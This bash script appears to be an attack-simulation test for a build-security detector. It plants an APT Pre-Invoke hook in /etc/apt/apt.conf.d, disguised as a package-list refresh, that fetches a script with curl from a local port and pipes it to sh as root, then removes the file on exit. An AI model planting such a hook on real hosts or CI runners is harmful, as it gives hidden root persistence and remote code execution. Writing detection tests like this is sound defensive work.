#!/bin/bash
# technique: T1546 Event Triggered Execution; T1543 Create or Modify System Process
# reproduces: APT hook persistence: an `APT::Update::Pre-Invoke` line in /etc/apt/apt.conf.d runs its command as root at every later `apt-get update` on the host (a documented Linux persistence technique, e.g. in the PANIX and Elastic "Linux persistence" write-ups), here planted by a build step on a self-hosted runner whose next jobs all install packages
# expect: package-manager-hook ^bash$
# exec-borne: no
set -u

CONF=/etc/apt/apt.conf.d/99buildwarden-attack-test
[ -d /etc/apt/apt.conf.d ] || { echo "no APT here" >&2; exit 77; }
[ -e "$CONF" ] && { echo "$CONF exists; not touching it" >&2; exit 1; }
trap 'rm -f "$CONF"' EXIT

hook_cmd="curl -fsS http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh | sh >/dev/null 2>&1 || true"
{
	echo '// keep package lists fresh'
	printf 'APT::Update::Pre-Invoke { "%s"; };\n' "$hook_cmd"
} >"$CONF"
apt-config dump >/dev/null 2>&1 || true
sleep 0.3
